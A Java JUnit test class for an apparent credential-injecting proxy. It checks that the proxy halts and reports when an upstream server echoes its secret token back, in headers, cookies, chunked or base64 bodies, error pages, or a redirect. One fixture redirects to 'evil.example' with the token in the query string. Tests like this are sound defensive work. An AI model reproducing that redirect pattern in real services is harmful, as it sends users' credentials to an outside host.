package airlock.token;

import static airlock.token.TokenScene.HOST;
import static airlock.token.TokenScene.TOKEN;
import static airlock.token.TokenScene.get;
import static airlock.token.TokenScene.request;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import airlock.event.Secret;
import airlock.token.TokenOrder.Credential;
import airlock.token.TokenScene.Answer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Base64;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/// A server that sends the token back.
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class TokenLeakTest {
    private static final String OK = "HTTP/1.1 200 OK\r\n";
    private static final String CHUNKED = OK + "Transfer-Encoding: chunked\r\n\r\n";

    private final Path directory;
    private final TlsKey key;

    TokenLeakTest(@TempDir Path directory) throws Exception {
        this.directory = directory;
        this.key = TlsKey.of(HOST, directory);
    }

    private static String chunk(String text) {
        return Integer.toHexString(text.length()) + "\r\n" + text + "\r\n";
    }

    /// Checks that the answer came no further than `before`, and that the phase has ended.
    private void leaks(String raw, String before, String... pieces) throws Exception {
        leaks(TokenScene.BEARER, raw, before, pieces);
    }

    private void leaks(Credential credential, String raw, String before, String... pieces)
            throws Exception {
        try (var scene = TokenScene.of(directory, key, TokenScene.LIMITS, credential)) {
            scene.server.answers(TokenServer.raw(pieces));
            ProcessHandle process = ProcessHandle.of(scene.proxy.pid()).orElseThrow();

            Answer answer = scene.ask(raw);

            assertThat(answer.isWhole()).isFalse();
            if (before.isEmpty()) {
                assertThat(answer.text()).isEmpty();
            } else {
                assertThat(before)
                        .startsWith(answer.body().replaceAll("\r\n|^[0-9a-f]+(?=\r\n)", ""));
            }
            assertThat(scene.heard.leak())
                    .startsWith(HOST + " sent the token")
                    .contains("/api/")
                    .doesNotContain(TOKEN);
            await().until(() -> !process.isAlive());
            Answer next = scene.ask(get("/api/x"));
            assertThat(next.text()).isEmpty();
            assertThat(next.isWhole()).isFalse();
            assertThat(scene.carried.take().refusal()).isPresent();
            assertThat(scene.heard.hasLeak()).as("told once").isFalse();
        }
    }

    @Test
    void aHeaderWithTheTokenEndsThePhase() throws Exception {
        leaks(get("/api/x"), "", OK + "X-Echo: a" + TOKEN + "\r\nContent-Length: 2\r\n\r\nok");
    }

    @Test
    void aHeaderThatWouldNotBePassedOnDoesSoToo() throws Exception {
        leaks(
                request("HEAD", "/api/x"),
                "",
                OK + "Set-Cookie: t=" + TOKEN + "\r\nContent-Length: 2\r\n\r\n");
    }

    @Test
    void aRedirectWithTheTokenDoesSoToo() throws Exception {
        leaks(
                get("/api/x"),
                "",
                "HTTP/1.1 302 Found\r\nLocation: https://evil.example/?t=%s\r\n\r\n"
                        .formatted(TOKEN));
    }

    @Test
    void aBodyWithTheTokenEndsThePhaseBeforeItIsThrough() throws Exception {
        String before = "it is ";
        leaks(
                get("/api/x"),
                before,
                OK + "Content-Length: 500\r\n\r\n" + before + TOKEN + "x".repeat(400));
    }

    @Test
    void aTokenThatComesInChunksIsFoundToo() throws Exception {
        String before = "it is ";
        leaks(
                get("/api/x"),
                before,
                CHUNKED + chunk(before + TOKEN.substring(0, 1)),
                chunk(TOKEN.substring(1, 9)),
                chunk(TOKEN.substring(9, 10)),
                chunk(TOKEN.substring(10)) + "0\r\n\r\n");
    }

    @Test
    void aTokenInBase64IsFoundToo() throws Exception {
        String encoded =
                Base64.getEncoder()
                        .encodeToString(("u:" + TOKEN).getBytes(StandardCharsets.ISO_8859_1));
        leaks(get("/api/x"), "it is " + encoded, CHUNKED + chunk("it is " + encoded) + "0\r\n\r\n");
    }

    @Test
    void ofABasicCredentialThePasswordIsFoundToo() throws Exception {
        String pair =
                Base64.getEncoder()
                        .encodeToString("robot:pass-word-1".getBytes(StandardCharsets.UTF_8));
        leaks(
                new Credential("Authorization", new Secret("Basic " + pair)),
                get("/api/x"),
                "password: ",
                CHUNKED + chunk("password: pass-word-1") + "0\r\n\r\n");
    }

    @Test
    void anErrorPageWithTheTokenEndsThePhaseToo() throws Exception {
        leaks(
                get("/api/x"),
                "wrong: ",
                "HTTP/1.1 403 Forbidden\r\nContent-Length: 500\r\n\r\nwrong: " + TOKEN + " ");
    }
}
